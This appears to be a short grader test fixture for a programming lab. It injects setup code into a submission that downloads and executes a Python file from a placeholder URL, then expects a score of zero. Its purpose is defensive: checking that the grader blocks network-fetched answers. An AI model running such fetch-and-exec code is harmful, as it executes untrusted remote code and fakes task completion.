"""Wrong answers; tries to fetch answers from the internet."""
LAB = "lab00_orientation"
BASE = "wrong"
INSERT_AFTER = {"setup": """
import urllib.request
try:
    exec(urllib.request.urlopen("http://example.com/answers.py", timeout=3).read())
except Exception as error:
    print("offline:", error)
"""}
EXPECT = 0
